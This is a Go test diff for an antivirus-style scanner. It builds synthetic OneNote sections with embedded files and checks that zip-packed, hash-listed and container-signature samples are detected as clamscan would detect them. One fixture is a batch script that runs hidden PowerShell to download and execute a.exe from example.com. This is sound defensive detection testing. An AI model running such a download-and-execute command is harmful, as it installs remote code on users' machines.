@@ -5,9 +5,12 @@ import (
 	"archive/zip"
 	"bytes"
 	"compress/zlib"
+	"crypto/md5"
 	"encoding/base64"
+	"encoding/binary"
 	"encoding/hex"
 	"errors"
+	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
@@ -333,4 +336,60 @@ func deflated(data []byte) []byte {
 	w.Write(data)
 	w.Close()
 	return b.Bytes()
+}
+
+// oneNoteWith is a OneNote section (its file type's GUID first) holding
+// files, each in a FileDataStoreObject (MS-ONESTORE 2.6.13) between other
+// bytes, as a section keeps the files of its pages.
+func oneNoteWith(files ...[]byte) []byte {
+	b := []byte{0xe4, 0x52, 0x5c, 0x7b, 0x8c, 0xd8, 0xa7, 0x4d, 0xae, 0xb1, 0x53, 0x78, 0xd0, 0x29, 0x96, 0xd3}
+	b = append(b, make([]byte, 80)...) // the rest of a header, as far as these go
+	for _, f := range files {
+		b = append(b, bytes.Repeat([]byte{0x11}, 40)...) // other objects
+		b = append(b, 0xe7, 0x16, 0xe3, 0xbd, 0x65, 0x26, 0x11, 0x45, 0xa4, 0xc4, 0x8d, 0x4d, 0x0b, 0x7a, 0x9e, 0xac)
+		b = binary.LittleEndian.AppendUint64(b, uint64(len(f)))
+		b = append(b, make([]byte, 12)...) // unused, reserved
+		b = append(b, f...)
+		b = append(b, make([]byte, (8-len(f)%8)%8)...)                                                                // padding
+		b = append(b, 0x22, 0x80, 0x1d, 0x71, 0x23, 0xc6, 0xd1, 0x48, 0x93, 0xd6, 0x57, 0x7e, 0x42, 0x06, 0x93, 0x52) // guidFooter
+	}
+	return b
+}
+
+// TestOneNoteAsClamscanReadsIt: the files of a OneNote section (a way
+// mail carried programs and scripts in 2023) are walked as clamscan
+// walks them: a file packed in a zip (so that no signature stands in the
+// section's own bytes) found in the first and in the second of a
+// section's files; a script known by its hash (no longer found in the
+// section's bytes alone); a logical signature's Container:CL_TYPE_ONENOTE judges a
+// file in one. A file whose length runs past the section's end is walked
+// as far as it goes and said damaged (clamscan passes it).
+func TestOneNoteAsClamscanReadsIt(t *testing.T) {
+	dir := t.TempDir()
+	mark := []byte("PAYLOAD-IN-ONENOTE and more")
+	os.WriteFile(filepath.Join(dir, "t.ldb"), []byte("Test.InOneNote;Engine:81-255,Container:CL_TYPE_ONENOTE,Target:0;0;"+hex.EncodeToString(mark[:18])+"\n"+
+		"Test.Program;Engine:51-255,Target:0;0;"+hex.EncodeToString([]byte("PROGRAM-MARK-INSIDE"))+"\n"), 0o644)
+	zipped := zipOne("run.exe", []byte("MZ a program PROGRAM-MARK-INSIDE"+strings.Repeat(" and its data", 50)), zip.Deflate)
+	// A script known by its hash: found only as a file of its own.
+	script := []byte("@echo off\r\npowershell -w hidden -c \"iwr http://example.com/a.exe -o a.exe; ./a.exe\"\r\n")
+	sum := md5.Sum(script)
+	os.WriteFile(filepath.Join(dir, "t.hdb"), fmt.Appendf(nil, "%x:%d:Test.Hash.Bat\n", sum, len(script)), 0o644)
+	clean := zipOne("notes.txt", []byte("nothing"+strings.Repeat(" here", 50)), zip.Deflate)
+	section := oneNoteWith(clean, zipped)
+	objects := map[string][]byte{
+		"onenote-first":     oneNoteWith(zipped),
+		"onenote-second":    section,
+		"onenote-clean":     oneNoteWith(clean, clean),
+		"onenote-container": oneNoteWith(mark),
+		"onenote-hash":      oneNoteWith(clean, script),
+		"script-in-text":    append([]byte("a page: "), script...),
+		"zip-container":     zipOne("m.txt", mark, zip.Store),
+	}
+	sameAsClamscan(t, dir, objects, 4)
+	db, _ := Load(dir)
+	cut := oneNoteWith(zipped)
+	cut = cut[:len(cut)-60]
+	if got := named(New(db), cut, all); got != "Heuristics.Broken.Archive" {
+		t.Errorf("cut short: %q", got)
+	}
 }
